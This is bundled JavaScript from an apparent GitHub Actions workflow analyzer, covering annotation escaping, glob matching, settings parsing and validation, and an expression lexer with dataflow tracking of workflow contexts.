function annotationOf({ rule, severity, message, location }, context) {
    const { path, startLine, startColumn, endLine, endColumn } = location;
    const mend = context.rule(rule)?.mend;
    return {
        level: LEVELS[severity],
        message: (0,_escape_js__WEBPACK_IMPORTED_MODULE_0__/* .escapeTerminal */ .en)(message) + (mend ? `\n${mend}` : ""),
        title: `${rule} (${severity})`,
        path: escapeExceptBreaks(path),
        startLine,
        endLine,
        ...(startLine === endLine && { startColumn, endColumn }),
    };
}
/** A line break in a file's name is part of the name; whoever prints it has a form for it. */
function escapeExceptBreaks(path) {
    return path.split("\n").map(_escape_js__WEBPACK_IMPORTED_MODULE_0__/* .escapeTerminal */ .en).join("\n");
}
/** Annotations as the workflow commands that make them. */
function renderGithub(report, context) {
    return annotations(report, context).map(commandOf).join("");
}
/** @see actions/toolkit, docs/commands.md; actions/runner, src/Runner.Common/ActionCommand.cs, for what is escaped */
function commandOf({ level, message, title, path, startLine, endLine, startColumn, endColumn }) {
    const properties = Object.entries({ file: path, line: startLine, endLine, col: startColumn, endColumn, title })
        .filter(([, value]) => value !== undefined)
        .map(([name, value]) => `${name}=${escapeProperty(String(value))}`);
    return `::${level} ${properties.join(",")}::${escapeData(message)}\n`;
}
function escapeData(text) {
    return text.replaceAll("%", "%25").replaceAll("\r", "%0D").replaceAll("\n", "%0A");
}
function escapeProperty(text) {
    return escapeData(text).replaceAll(":", "%3A").replaceAll(",", "%2C");
}


/***/ }),

/***/ 6730:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {

/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
/* harmony export */   $X: () => (/* binding */ compareEdits),
/* harmony export */   $f: () => (/* binding */ overlaps),
/* harmony export */   NQ: () => (/* binding */ areApart),
/* harmony export */   ct: () => (/* binding */ applyEdits),
/* harmony export */   fG: () => (/* binding */ isSameEdit)
/* harmony export */ });
/**
 * Applies edits to a text; everything outside them stays as it is.
 *
 * @throws RangeError when edits overlap or leave the text: choose among fixes first, see `selectFixes`.
 */
function applyEdits(text, edits) {
    const ordered = [...edits].sort(compareEdits);
    let result = "";
    let at = 0;
    for (const edit of ordered) {
        if (edit.start < at || edit.end < edit.start || edit.end > text.length) {
            throw new RangeError(`edit ${edit.start}-${edit.end} overlaps another edit or leaves the text`);
        }
        result += text.slice(at, edit.start) + edit.text;
        at = edit.end;
    }
    return result + text.slice(at);
}
/** Do two edits touch the same characters, or insert at the same place? */
function overlaps(a, b) {
    if (a.start === a.end && b.start === b.end)
        return a.start === b.start;
    return a.start < b.end && b.start < a.end;
}
/** The order in which edits stand in a text; what is inserted before a range comes first. */
function compareEdits(a, b) {
    return a.start - b.start || a.end - b.end;
}
/** Do two edits do the same? */
function isSameEdit(a, b) {
    return a.start === b.start && a.end === b.end && a.text === b.text;
}
/** Can these edits be applied together? */
function areApart(edits) {
    const ordered = [...edits].sort(compareEdits);
    return ordered.every((edit, i) => i === 0 || !overlaps(ordered[i - 1], edit));
}


/***/ }),

/***/ 6732:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {

/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
/* harmony export */   f: () => (/* binding */ globMatcher),
/* harmony export */   k: () => (/* binding */ pathMatcher)
/* harmony export */ });
/**
 * Does a path match one of the globs? A glob without `/` matches a file's name in any folder, as in `.gitignore`; one that
 * ends with `/` means all below a folder.
 */
function pathMatcher(globs) {
    const matchers = globs.map((glob) => globMatcher(anywhere(glob.replace(/^\.?\//, ""))));
    return (path) => matchers.some((matches) => matches(path));
}
function anywhere(glob) {
    const whole = glob.endsWith("/") ? `${glob}**` : glob;
    return whole.includes("/") ? whole : `**/${whole}`;
}
/**
 * Does a text match a glob? `*` and `?` stop at `/`, `**` doesn't; `[a-z]`, `[!a-z]`, `{a,b}` and `\` as in a shell. Names
 * that begin with a dot are like any other.
 *
 * A configuration may come with a pull request of a stranger's, so the time grows with the lengths of glob and text only,
 * whatever the glob: all ways to read it are followed at once.
 */
function globMatcher(glob) {
    const patterns = expandBraces(glob).map(tokensOf);
    return (text) => patterns.some((tokens) => matches(tokens, text));
}
/** More alternatives than that are nobody's; the glob is then read without them. */
const MOST_ALTERNATIVES = 200;
/** `a{b,c}d` → `abd`, `acd`; innermost braces first, so that they may be nested. */
function expandBraces(glob) {
    let globs = [glob];
    for (;;) {
        const next = globs.flatMap(expandFirst);
        if (next.length === globs.length)
            return next;
        if (next.length > MOST_ALTERNATIVES)
            return [glob];
        globs = next;
    }
}
function expandFirst(glob) {
    const match = /\{([^{}]*,[^{}]*)\}/.exec(glob);
    if (!match)
        return [glob];
    const [before, behind] = [glob.slice(0, match.index), glob.slice(match.index + match[0].length)];
    return match[1].split(",").map((part) => before + part + behind);
}
function tokensOf(glob) {
    const tokens = [];
    for (let at = 0; at < glob.length;) {
        const isSegmentStart = at === 0 || glob[at - 1] === "/";
        if (isSegmentStart && glob.startsWith("**/", at)) {
            tokens.push({ kind: "folders" });
            at += 3;
        }
        else if (glob[at] === "*") {
            const end = endOfStars(glob, at);
            tokens.push({ kind: end - at > 1 ? "all" : "star" });
            at = end;
        }
        else {
            const { token, end } = characterAt(glob, at);
            tokens.push(token);
            at = end;
        }
    }
    return tokens;
}
function endOfStars(glob, from) {
    let end = from;
    while (glob[end] === "*")
        end++;
    return end;
}
/** One character of the text: itself, any, or one of a class. */
function characterAt(glob, at) {
    const char = glob[at];
    if (char === "?")
        return { token: { kind: "class", accepts: (other) => other !== "/" }, end: at + 1 };
    if (char === "\\" && at + 1 < glob.length)
        return { token: { kind: "char", char: glob[at + 1] }, end: at + 2 };
    const close = char === "[" ? glob.indexOf("]", at + 2) : -1;
    if (close === -1)
        return { token: { kind: "char", char }, end: at + 1 };
    return { token: classOf(glob.slice(at + 1, close)), end: close + 1 };
}
/** Between brackets: characters and ranges, `!` or `^` before them for all others. */
function classOf(body) {
    const isNegated = /^[!^]/.test(body);
    const ranges = [...body.slice(isNegated ? 1 : 0).matchAll(/([\s\S])-([\s\S])|([\s\S])/g)].map(([, from = "", to = "", single]) => (single === undefined ? [from, to] : [single, single]));
    return {
        kind: "class",
        accepts: (char) => char !== "/" && ranges.some(([from, to]) => from <= char && char <= to) !== isNegated,
    };
}
/** Follows all ways at once: `places` holds the tokens that may be next. */
function matches(tokens, text) {
    let places = withSkips(tokens, new Set([0]));
    for (const char of text) {
        const next = new Set();
        for (const place of places)
            step(tokens, place, char, next);
        places = withSkips(tokens, next);
        if (places.size === 0)
            return false;
    }
    return places.has(tokens.length);
}
/** Inside of folders that `**` takes, as long as none ends: written as the token's number plus a half. */
const INSIDE = 0.5;
function step(tokens, place, char, next) {
    const token = tokens[Math.floor(place)];
    if (!token)
        return;
    switch (token.kind) {
        case "char":
            if (token.char === char)
                next.add(place + 1);
            return;
        case "class":
            if (token.accepts(char))
                next.add(place + 1);
            return;
        case "star":
            if (char !== "/")
                next.add(place);
            return;
        case "all":
            next.add(place);
            return;
        case "folders":
            // A folder that ends may be the last, or not.
            next.add(char === "/" ? Math.floor(place) : Math.floor(place) + INSIDE);
    }
}
/** Stars may stand for nothing. */
function withSkips(tokens, places) {
    for (const place of places) {
        const kind = tokens[place]?.kind;
        if (kind === "star" || kind === "all" || kind === "folders")
            places.add(place + 1);
    }
    return places;
}


/***/ }),

/***/ 1713:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {


// EXPORTS
__nccwpck_require__.d(__webpack_exports__, {
  tF: () => (/* reexport */ CONFIG_PATH),
  H5: () => (/* reexport */ NO_CONFIG),
  zu: () => (/* reexport */ options/* choiceOption */.zu),
  jZ: () => (/* reexport */ options/* numberOption */.jZ),
  o4: () => (/* reexport */ parseConfig),
  vU: () => (/* reexport */ options/* textOption */.vU),
  YM: () => (/* reexport */ options/* textsOption */.YM)
});

// UNUSED EXPORTS: configSchema, globMapOption, optionValues, switchOption

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/config/config.js
const NO_CONFIG = {
    path: null,
    persona: null,
    isIgnored: () => false,
    rules: new Map(),
    facts: new Map(),
};
/** The place of a repository's settings when no other file is named. */
const CONFIG_PATH = ".github/trustchain.yml";

// EXTERNAL MODULE: ./packages/workflow-analysis/lib/config/options.js
var options = __nccwpck_require__(1861);
// EXTERNAL MODULE: ./packages/action-kit/lib/index.js + 16 modules
var lib = __nccwpck_require__(3978);
// EXTERNAL MODULE: ./packages/findings/lib/index.js + 10 modules
var findings_lib = __nccwpck_require__(8751);
// EXTERNAL MODULE: ./packages/workflow-analysis/lib/yaml/index.js + 3 modules
var yaml = __nccwpck_require__(8176);
// EXTERNAL MODULE: ./packages/workflow-analysis/lib/config/globs.js
var globs = __nccwpck_require__(6732);
// EXTERNAL MODULE: ./packages/workflow-analysis/lib/config/read.js
var read = __nccwpck_require__(7335);
;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/config/parse.js





const TOP_KEYS = ["persona", "ignore", "rules", "facts"];
const RULE_KEYS = ["severity", "persona", "ignore", "reason"];
/**
 * Reads the settings of a repository.
 *
 * @param rules the rules that there are
 * @throws UserError for anything that isn't as it should be, with the place in the file
 */
async function parseConfig(file, rules) {
    const { root, problems } = await (0,yaml/* parseYaml */.hN)(file);
    const [problem] = problems;
    if (problem)
        throw (0,read/* wrong */.Qm)(file, problem.start, problem.message, "mend the YAML");
    if (!root)
        return { path: file.path, persona: null, isIgnored: () => false, rules: new Map(), facts: new Map() };
    const map = (0,read/* expectMap */.Ym)(root, "settings are keys with values");
    (0,read/* expectKeys */.cJ)(map, TOP_KEYS);
    return {
        path: file.path,
        persona: (0,read/* oneOf */.yL)(map.entry("persona"), findings_lib/* PERSONAS */.Ud),
        isIgnored: (0,globs/* pathMatcher */.k)((0,read/* texts */.Te)(map.entry("ignore"))),
        rules: new Map(map.entry("rules") ? ruleSettings(map.entry("rules"), rules) : []),
        facts: await addedFacts(map.entry("facts")),
    };
}
/** Loaded where they are asked for: few settings add facts. */
async function addedFacts(entry) {
    if (!entry || (0,read/* isNull */.kZ)(entry.value))
        return new Map();
    const { readFacts } = await __nccwpck_require__.e(/* import() */ 272).then(__nccwpck_require__.bind(__nccwpck_require__, 7272));
    return readFacts(entry);
}
function ruleSettings(entry, rules) {
    if ((0,read/* isNull */.kZ)(entry.value))
        return [];
    const map = (0,read/* expectMap */.Ym)(entry.value, "`rules` holds rule ids with their settings");
    const ruleIds = rules.map(({ id }) => id);
    return map.entries.map(({ key, value }) => {
        const rule = rules.find(({ id }) => id === key.value);
        if (!rule) {
            throw (0,read/* wrong */.Qm)(key.file, key.start, `there is no rule \`${key.value}\`${(0,lib/* didYouMean */.au)(key.value, ruleIds)}`, "name one of the rules in docs/rules");
        }
        return [key.value, settingsOf(value, rule.options)];
    });
}
const NOTHING = { isOff: false, severity: null, persona: null, ignore: [], reason: null, options: {} };
function settingsOf(node, options) {
    if (node.kind === "map") {
        (0,read/* expectKeys */.cJ)(node, [...RULE_KEYS, ...Object.keys(options)]);
        return {
            isOff: false,
            severity: (0,read/* oneOf */.yL)(node.entry("severity"), findings_lib/* SEVERITIES */.oC),
            persona: (0,read/* oneOf */.yL)(node.entry("persona"), findings_lib/* PERSONAS */.Ud),
            ignore: (0,read/* texts */.Te)(node.entry("ignore")).map(ignoredPlace),
            reason: node.text("reason") ?? null,
            options: optionsOf(node, options),
        };
    }
    // YAML 1.1 readers turn `off` into false, so people write that, too.
    if (node.kind === "scalar" && (node.value === "off" || node.typed === false))
        return { ...NOTHING, isOff: true };
    const severity = node.kind === "scalar" ? findings_lib/* SEVERITIES */.oC.find((name) => name === node.value) : undefined;
    if (severity)
        return { ...NOTHING, severity };
    const given = node.kind === "scalar" ? `\`${node.value}\`` : "a list";
    throw (0,read/* wrong */.Qm)(node.file, node.start, `${given} is no setting of a rule`, `write off, ${findings_lib/* SEVERITIES */.oC.join(", ")} or a mapping`);
}
function optionsOf(map, options) {
    return Object.fromEntries(Object.entries(options).flatMap(([name, option]) => {
        const entry = map.entry(name);
        return entry && !(0,read/* isNull */.kZ)(entry.value) ? [[name, option.read(entry)]] : [];
    }));
}
function ignoredPlace(glob) {
    const match = /^(.*):(\d+)$/.exec(glob);
    if (!match)
        return { matches: (0,globs/* pathMatcher */.k)([glob]), line: null };
    return { matches: (0,globs/* pathMatcher */.k)([match[1]]), line: Number(match[2]) };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/config/schema.js

/** JSON Schema (draft 2020-12) of `.github/trustchain.yml`, for editors. */
function configSchema(rules, lists) {
    return {
        $schema: "https://json-schema.org/draft/2020-12/schema",
        $comment: "generated by npm run generate",
        title: "trustchain settings of a repository (.github/trustchain.yml)",
        type: "object",
        additionalProperties: false,
        properties: {
            persona: { enum: PERSONAS, description: "For whom findings are reported" },
            ignore: { $ref: "#/$defs/globs", description: "Paths that are not read at all" },
            rules: {
                type: "object",
                additionalProperties: false,
                properties: Object.fromEntries(rules.map(({ id, summary, options }) => [id, { ...ruleSchema(options), description: summary }])),
            },
            facts: {
                type: "object",
                additionalProperties: false,
                description: "Additions to what the rules know",
                properties: Object.fromEntries(lists.map((list) => [list.name, factsSchema(list)])),
            },
        },
        $defs: {
            globs: { oneOf: [{ type: "string" }, { type: "array", items: { type: "string", minLength: 1 } }] },
            severity: { enum: SEVERITIES },
            rule: settingSchema({}),
        },
    };
}
function factsSchema({ about, fields }) {
    const properties = Object.entries(fields).map(([name, { schema, description }]) => [
        name,
        { ...schema, description },
    ]);
    return {
        type: "array",
        description: about,
        items: {
            type: "object",
            additionalProperties: false,
            required: Object.keys(fields).filter((name) => fields[name]?.isRequired),
            properties: Object.fromEntries(properties),
        },
    };
}
/** Most rules have no options of their own and share one schema. */
function ruleSchema(options) {
    return Object.keys(options).length === 0 ? { $ref: "#/$defs/rule" } : settingSchema(options);
}
function settingSchema(options) {
    const own = Object.entries(options).map(([name, { schema, description }]) => [name, { ...schema, description }]);
    return {
        oneOf: [
            { const: "off" },
            { const: false },
            { $ref: "#/$defs/severity" },
            {
                type: "object",
                additionalProperties: false,
                properties: {
                    severity: { $ref: "#/$defs/severity" },
                    persona: { enum: PERSONAS },
                    ignore: { $ref: "#/$defs/globs", description: "Places whose findings are suppressed: path or path:line" },
                    reason: { type: "string", description: "Why, shown with the suppressed findings" },
                    ...Object.fromEntries(own),
                },
            },
        ],
    };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/config/index.js






/***/ }),

/***/ 1861:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {

/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
/* harmony export */   IL: () => (/* binding */ switchOption),
/* harmony export */   YM: () => (/* binding */ textsOption),
/* harmony export */   ib: () => (/* binding */ optionValues),
/* harmony export */   jZ: () => (/* binding */ numberOption),
/* harmony export */   mD: () => (/* binding */ globMapOption),
/* harmony export */   vU: () => (/* binding */ textOption),
/* harmony export */   zu: () => (/* binding */ choiceOption)
/* harmony export */ });
/* harmony import */ var _trustchain_action_kit__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(3978);
/* harmony import */ var _read_js__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(7335);


/** The values of a rule's options: what was set, else their defaults. */
function optionValues(options, given) {
    return Object.fromEntries(Object.entries(options).map(([name, option]) => [name, given[name] ?? option.default]));
}
/** A list of texts, such as globs. */
function textsOption(description) {
    const schema = { oneOf: [{ type: "string" }, { type: "array", items: { type: "string", minLength: 1 } }] };
    return { description, default: [], schema, read: _read_js__WEBPACK_IMPORTED_MODULE_1__/* .texts */ .Te };
}
/** One line of text. */
function textOption(fallback, description) {
    return {
        description,
        default: fallback,
        schema: { type: "string", minLength: 1 },
        read({ key, value }) {
            const text = value.kind === "scalar" && typeof value.typed === "string" ? value.value : "";
            if (text !== "" && !/[\r\n]/.test(text))
                return text;
            throw (0,_read_js__WEBPACK_IMPORTED_MODULE_1__/* .wrong */ .Qm)(value.file, value.start, `\`${key.value}\` is no line of text`, "write one line of text");
        },
    };
}
/** One word of a closed list. */
function choiceOption(choices, fallback, description) {
    return {
        description,
        default: fallback,
        schema: { enum: choices },
        read: (entry) => (0,_read_js__WEBPACK_IMPORTED_MODULE_1__/* .oneOf */ .yL)(entry, choices) ?? fallback,
    };
}
/** A whole number from 0 upwards. */
function numberOption(fallback, description) {
    return {
        description,
        default: fallback,
        schema: { type: "integer", minimum: 0 },
        read({ key, value }) {
            const number = value.kind === "scalar" ? value.typed : undefined;
            if (typeof number === "number" && Number.isInteger(number) && number >= 0)
                return number;
            throw (0,_read_js__WEBPACK_IMPORTED_MODULE_1__/* .wrong */ .Qm)(value.file, value.start, `\`${key.value}\` is no whole number`, "write a number from 0 upwards");
        },
    };
}
/** On or off; off by default. */
function switchOption(description) {
    return {
        description,
        default: false,
        schema: { type: "boolean" },
        read({ key, value }) {
            if (value.kind === "scalar" && typeof value.typed === "boolean")
                return value.typed;
            throw (0,_read_js__WEBPACK_IMPORTED_MODULE_1__/* .wrong */ .Qm)(value.file, value.start, `\`${key.value}\` is neither true nor false`, "write true or false");
        },
    };
}
/** A mapping of globs to words of a closed list. */
function globMapOption(choices, description) {
    return {
        description,
        default: new Map(),
        schema: { type: "object", additionalProperties: { enum: choices } },
        read({ key, value }) {
            const map = (0,_read_js__WEBPACK_IMPORTED_MODULE_1__/* .expectMap */ .Ym)(value, `\`${key.value}\` is globs with words`);
            return new Map(map.entries.map(({ key: glob, value: node }) => {
                const text = node.kind === "scalar" ? node.value : "";
                const word = choices.find((choice) => choice === text);
                if (word)
                    return [glob.value, word];
                const reason = `\`${text}\` is none of the words for \`${glob.value}\`${(0,_trustchain_action_kit__WEBPACK_IMPORTED_MODULE_0__/* .didYouMean */ .au)(text, choices)}`;
                throw (0,_read_js__WEBPACK_IMPORTED_MODULE_1__/* .wrong */ .Qm)(node.file, node.start, reason, `write one of ${choices.join(", ")}`);
            }));
        },
    };
}


/***/ }),

/***/ 7335:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {

/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
/* harmony export */   Qm: () => (/* binding */ wrong),
/* harmony export */   Te: () => (/* binding */ texts),
/* harmony export */   Ym: () => (/* binding */ expectMap),
/* harmony export */   cJ: () => (/* binding */ expectKeys),
/* harmony export */   kZ: () => (/* binding */ isNull),
/* harmony export */   yL: () => (/* binding */ oneOf)
/* harmony export */ });
/* harmony import */ var _trustchain_action_kit__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(3978);

/** The word that an entry holds; null where there is none. */
function oneOf(entry, words) {
    if (!entry || isNull(entry.value))
        return null;
    const node = entry.value;
    const text = node.kind === "scalar" ? node.value : "";
    const word = words.find((candidate) => candidate === text);
    if (word)
        return word;
    const given = node.kind === "scalar" ? `\`${text}\`${(0,_trustchain_action_kit__WEBPACK_IMPORTED_MODULE_0__/* .didYouMean */ .au)(text, words)}` : "a collection";
    throw wrong(node.file, node.start, `\`${entry.key.value}\` is ${given}`, `write one of ${words.join(", ")}`);
}
/** The texts of a list, or the one that stands alone. */
function texts(entry) {
    if (!entry || isNull(entry.value))
        return [];
    const { value } = entry;
    const scalars = value.kind === "seq"
        ? value.items.map((item) => (item.value.kind === "scalar" ? item.value : null))
        : [value.kind === "scalar" ? value : null];
    return scalars.map((scalar) => {
        if (typeof scalar?.typed === "string" && scalar.value !== "")
            return scalar.value;
        throw wrong(value.file, value.start, `\`${entry.key.value}\` holds something else than globs`, "write a list of path globs");
    });
}
function expectMap(node, what) {
    if (node.kind === "map")
        return node;
    throw wrong(node.file, node.start, `no mapping stands here, but ${what}`, "see docs/trustchain.schema.json");
}
function expectKeys(map, known) {
    for (const { key } of map.entries) {
        if (known.includes(key.value))
            continue;
        throw wrong(key.file, key.start, `there is no setting \`${key.value}\`${(0,_trustchain_action_kit__WEBPACK_IMPORTED_MODULE_0__/* .didYouMean */ .au)(key.value, known)}`, `the settings here are ${known.join(", ")}`);
    }
}
function isNull(node) {
    return node.kind === "scalar" && node.isNull;
}
/** An error at a place of the settings. */
function wrong(file, offset, reason, remedy) {
    const { line, column } = file.position(offset);
    return new _trustchain_action_kit__WEBPACK_IMPORTED_MODULE_0__/* .UserError */ .yo(`${file.path}:${line}:${column}`, reason, remedy);
}


/***/ }),

/***/ 6481:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {


// EXPORTS
__nccwpck_require__.d(__webpack_exports__, {
  GN: () => (/* reexport */ NOTHING_KNOWN),
  Fw: () => (/* reexport */ SOME_OBJECT),
  HV: () => (/* reexport */ UNKNOWN),
  LU: () => (/* reexport */ childrenOf),
  VJ: () => (/* reexport */ contextPath),
  z5: () => (/* reexport */ dataflow),
  _3: () => (/* reexport */ evaluate),
  zV: () => (/* reexport */ findExpressions),
  eO: () => (/* reexport */ known),
  zB: () => (/* reexport */ parseCondition),
  YK: () => (/* reexport */ parseExpression),
  Ft: () => (/* reexport */ references),
  uo: () => (/* reexport */ resultLeaves),
  e9: () => (/* reexport */ shaped),
  eC: () => (/* reexport */ textAfter),
  cM: () => (/* reexport */ textAroundNumber),
  fE: () => (/* reexport */ toText),
  w8: () => (/* reexport */ truthiness),
  wM: () => (/* reexport */ visitExpression)
});

// UNUSED EXPORTS: ObjectValue, expressionType, printExpression

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/ast.js
/** The expressions directly inside one. */
function childrenOf(expression) {
    switch (expression.kind) {
        case "literal":
        case "context":
            return [];
        case "property":
        case "filter":
            return [expression.object];
        case "index":
            return [expression.object, expression.index];
        case "call":
            return expression.args;
        case "not":
            return [expression.operand];
        default:
            return [expression.left, expression.right];
    }
}
/** Calls `visit` for an expression and everything in it, outermost first. */
function visitExpression(expression, visit) {
    visit(expression);
    for (const child of childrenOf(expression))
        visitExpression(child, visit);
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/contexts.js

/** `github.event.issue.title`, `secrets['NAME']`, `a.*.b`; undefined for what doesn't begin with a context. */
function contextPath(expression) {
    const segments = [];
    let exact = true;
    for (let node = expression;; node = node.object) {
        switch (node.kind) {
            case "context":
                segments.push(node.name);
                return { segments: segments.reverse(), exact };
            case "property":
                segments.push(node.name);
                break;
            case "filter":
                segments.push("*");
                break;
            case "index": {
                const { index } = node;
                const isName = index.kind === "literal" && typeof index.value === "string";
                segments.push(isName ? index.value.toLowerCase() : "*");
                if (index.kind !== "literal")
                    exact = false;
                break;
            }
            default:
                return undefined;
        }
    }
}
/** Every context access of an expression, those in indexes and conditions too. */
function references(expression) {
    const found = [];
    collect(expression, found);
    return found;
}
function collect(expression, found) {
    const path = contextPath(expression);
    if (!path) {
        for (const child of childrenOf(expression))
            collect(child, found);
        return;
    }
    found.push({ ...path, node: expression });
    collectIndexes(expression, found);
}
/** `a[b.c].d` reads `b.c`, too. */
function collectIndexes(expression, found) {
    if (expression.kind === "index")
        collect(expression.index, found);
    if (expression.kind === "index" || expression.kind === "property" || expression.kind === "filter") {
        collectIndexes(expression.object, found);
    }
}
/** Functions whose result is `true`, `false` or a hash, whatever they are given. */
const CLEAN_FUNCTIONS = new Set([
    "always",
    "cancelled",
    "contains",
    "endswith",
    "failure",
    "hashfiles",
    "startswith",
    "success",
]);
/**
 * The context accesses whose text can be part of the result, each once a place.
 *
 * Comparisons and tests give `true` or `false`; `a && b` gives `a` only where `a` is empty, false or zero; everything else
 * hands on what it is given.
 */
function dataflow(expression) {
    const found = [];
    collectCarried(expression, AS_IT_IS, found);
    return found;
}
const AS_IT_IS = { isJson: false, decodings: 0 };
function encodedBy(name, outer) {
    if (name === "fromjson")
        return { ...outer, decodings: outer.decodings + 1 };
    if (name !== "tojson")
        return outer;
    return outer.decodings > 0 ? { ...outer, decodings: outer.decodings - 1 } : { ...outer, isJson: true };
}
function collectCarried(expression, encoding, found) {
    const path = contextPath(expression);
    if (path) {
        found.push({ ...path, node: expression, throughToJson: encoding.isJson });
        return;
    }
    switch (expression.kind) {
        case "call": {
            const { name, args } = expression;
            if (CLEAN_FUNCTIONS.has(name))
                return;
            const inner = encodedBy(name, encoding);
            for (const arg of carriedArguments(name, args))
                collectCarried(arg, inner, found);
            return;
        }
        case "logical":
            if (expression.operator === "||")
                collectCarried(expression.left, encoding, found);
            collectCarried(expression.right, encoding, found);
            return;
        case "property":
        case "filter":
        case "index":
            collectCarried(expression.object, encoding, found);
    }
}
/** `case(condition, value, condition, value, …, default)` hands on its values; other functions all they are given. */
function carriedArguments(name, args) {
    return name === "case" ? args.filter((_, i) => i % 2 === 1 || i === args.length - 1) : args;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/lexer.js
/** What is wrong with an expression, and where. */
class ExpressionError extends Error {
    start;
    end;
    constructor(message, start, end) {
        super(message);
        this.start = start;
        this.end = end;
    }
}
const PUNCTUATION = new Map(["(", ")", "[", "]", ",", ".", "*", "!", "<", ">"].map((kind) => [kind, kind]));
const PAIRS = new Map(["&&", "||", "==", "!=", "<=", ">="].map((kind) => [kind, kind]));
/** After these a dot begins an access; anywhere else it begins a number. */
const OPERAND_ENDS = new Set(["name", "string", "number", ")", "]", "*", "."]);
/** A name behind its first character. The engine's own search is many times faster than a loop in code that runs for the first time. */
const NAME_REST = /[A-Za-z0-9_-]*/y;
/** Up to the next character that can't belong to a number: what is in between has to be one as a whole. */
const NUMBER_RUN = /[-+]?[0-9A-Za-z_.+-]+/y;
/**
 * Reads an expression one token at a time; its fields describe the token at hand.
 *
 * @see actions/runner, `LexicalAnalyzer`; Evaluate expressions in workflows and actions, "Literals"
 */
class Lexer {
    source;
    /** A `,` before the first token: a value may begin. */
    kind = ",";
    start = 0;
    end = 0;
    /** A name as it is written, or the value of a string. */
    text = "";
    /** The value of a number. */
    number = 0;
    constructor(source) {
        this.source = source;
        this.next();
    }
    /** @throws ExpressionError at the first character that begins no token */
    next() {
        const { source } = this;
        let at = this.end;
        while (isSpace(source.charCodeAt(at)))
            at++;
        this.start = at;
        const code = source.charCodeAt(at);
        if (isNameStart(code))
            this.readName();
        else if (code === 39)
            this.readString();
        else if (this.startsNumber(code))
            this.readNumber();
        else
            this.readPunctuation();
    }
    readName() {
        NAME_REST.lastIndex = this.start + 1;
        NAME_REST.test(this.source);
        this.kind = "name";
        this.end = NAME_REST.lastIndex;
        this.text = this.source.slice(this.start, this.end);
    }
    readString() {
        const { source, start } = this;
        let close = source.indexOf("'", start + 1);
        let isEscaped = false;
        while (close !== -1 && source.charCodeAt(close + 1) === 39) {
            isEscaped = true;
            close = source.indexOf("'", close + 2);
        }
        if (close === -1)
            throw new ExpressionError("the string is not closed", start, source.length);
        const raw = source.slice(start + 1, close);
        this.kind = "string";
        this.text = isEscaped ? raw.replaceAll("''", "'") : raw;
        this.end = close + 1;
    }
    startsNumber(code) {
        if (isDigit(code))
            return this.kind !== ".";
        if (code === 46)
            return !OPERAND_ENDS.has(this.kind);
        return code === 43 || code === 45;
    }
    readNumber() {
        NUMBER_RUN.lastIndex = this.start;
        const run = NUMBER_RUN.exec(this.source)?.[0] ?? this.source[this.start];
        this.end = this.start + run.length;
        this.kind = "number";
        this.number = parseNumber(run);
        if (Number.isNaN(this.number)) {
            const wanted = run === "+" || run === "-" ? "operator" : "number";
            throw new ExpressionError(`\`${run}\` is no ${wanted}`, this.start, this.end);
        }
    }
    readPunctuation() {
        const { source, start } = this;
        if (start >= source.length) {
            this.kind = "end";
            this.end = start;
            return;
        }
        const pair = PAIRS.get(source.slice(start, start + 2));
        const kind = pair ?? PUNCTUATION.get(source[start]);
        if (kind === undefined)
            throw new ExpressionError(unknownCharacter(source, start), start, start + 1);
        this.kind = kind;
        this.end = start + (pair ? 2 : 1);
    }
}
function unknownCharacter(source, at) {
    const char = String.fromCodePoint(source.codePointAt(at));
    if (char === '"')
        return 'strings stand in single quotes, not in "';
    if (char === "=" || char === "&" || char === "|")
        return `a single \`${char}\` is no operator`;
    return `\`${char}\` has no meaning here`;
}
function isDigit(code) {
    return code >= 48 && code <= 57;
}
function isNameStart(code) {
    return (code >= 97 && code <= 122) || (code >= 65 && code <= 90) || code === 95;
}
/** White space as .NET's `Char.IsWhiteSpace` has it. */
function isSpace(code) {
    if (code <= 32)
        return code === 32 || (code >= 9 && code <= 13);
    return code >= 0x85 && code !== 0xfeff && (code === 0x85 || /\s/.test(String.fromCharCode(code)));
}
const DECIMAL = /^[-+]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][-+]?\d+)?$/;
const HEXADECIMAL = /^0x[0-9a-fA-F]+$/;
const OCTAL = /^0o[0-7]+$/;
/**
 * A number as the expression language reads it, from a literal or a string; NaN for what is none.
 *
 * @see actions/runner, `ExpressionUtility.ParseNumber`
 */
function parseNumber(text) {
    const trimmed = text.trim();
    if (trimmed === "")
        return 0;
    if (DECIMAL.test(trimmed))
        return Number(trimmed);
    if (HEXADECIMAL.test(trimmed) || OCTAL.test(trimmed))
        return asInt32(Number(trimmed));
    if (trimmed === "Infinity" || trimmed === "+Infinity")
        return Number.POSITIVE_INFINITY;
    return trimmed === "-Infinity" ? Number.NEGATIVE_INFINITY : Number.NaN;
}
/** The runner reads 32 bits in two's complement: `0xffffffff` is -1, and what needs more bits is no number. */
function asInt32(bits) {
    return bits <= 0xffffffff ? bits | 0 : Number.NaN;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/values.js

class ObjectValue {
    entries;
    constructor(entries) {
        this.entries = entries;
    }
    get(key) {
        const exact = this.entries.get(key);
        if (exact !== undefined)
            return exact;
        const lower = key.toLowerCase();
        for (const [name, value] of this.entries)
            if (name.toLowerCase() === lower)
                return value;
        return undefined;
    }
}
